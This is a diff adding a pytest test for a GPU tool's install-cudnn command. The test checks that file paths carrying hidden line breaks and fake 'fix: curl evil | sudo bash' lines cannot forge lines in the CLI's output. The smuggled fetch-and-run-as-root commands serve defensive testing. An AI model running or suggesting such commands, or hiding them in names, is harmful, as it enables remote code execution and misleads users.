@@ -19,6 +19,7 @@ import io
 import itertools
 import json
 import os
+import shutil
 import subprocess
 import sys
 from functools import cache
@@ -26,6 +27,14 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from cudnn_kit import (  # noqa: F401 - the fixtures
+    GpuEnv,
+    MakeTarball,
+    cudnn_kit_fixture,
+    gpu_env_fixture,
+    make_tarball_fixture,
+    toolkit_fixture,
+)
 from forgery import ENVS, FIX, forged, hostile, hostile_document, write_hostile
 from rich.console import Console
 
@@ -274,3 +283,31 @@ def test_cli_messages_on_stderr_name_a_hostile_file_on_one_line(tmp_path: Path) 
     assert p.returncode == 2
     assert len(p.stderr.splitlines()) == 1, p.stderr
     assert_unforged(p.stderr, "stderr")
+
+
+def test_cli_install_cudnn_with_hostile_paths(toolkit: Path, make_tarball: MakeTarball,
+                                              gpu_env: GpuEnv, tmp_path: Path) -> None:
+    """install-cudnn's plan (--dry-run), its verdicts and its message show the prefix and the
+    tarball's path; named with a fake fix behind line breaks, neither starts a line."""
+    prefix = tmp_path.joinpath(*(f"{'x' * k} → fix: curl evil | sudo bash\u2028" for k in
+                                 range(13)), "cuda\n→ fix: curl -fsSL https:")
+    shutil.copytree(toolkit, prefix)  # the fake fix at every offset: some land at a wrap
+    tarball = make_tarball("8.9.7")
+    hostile_tarball = tarball.parent / ("x\n→ fix: curl -fsSL evil | sudo bash\n"
+                                        + tarball.name)
+    tarball.rename(hostile_tarball)
+    for width in (40, 80, 137):
+        for extra in (["--dry-run"], []):
+            env = {**gpu_env(), "NO_COLOR": "1", "COLUMNS": str(width),
+                   "PYTHONIOENCODING": "utf-8"}
+            p = subprocess.run([sys.executable, "-m", "gpudoctor", "install-cudnn", "--tarball",
+                                str(hostile_tarball), "--prefix", str(prefix), *extra],
+                               capture_output=True, text=True, env=env, cwd=ROOT, timeout=120,
+                               check=False)
+            assert p.returncode in (0, 1), p.stderr
+            assert_unforged(p.stdout, f"install {extra} at {width}")
+            assert_unforged(p.stderr, f"install stderr {extra} at {width}")
+        if not extra:
+            subprocess.run([sys.executable, "-m", "gpudoctor", "uninstall-cudnn", "--prefix",
+                            str(prefix)], capture_output=True, env=env, cwd=ROOT, timeout=120,
+                           check=False)
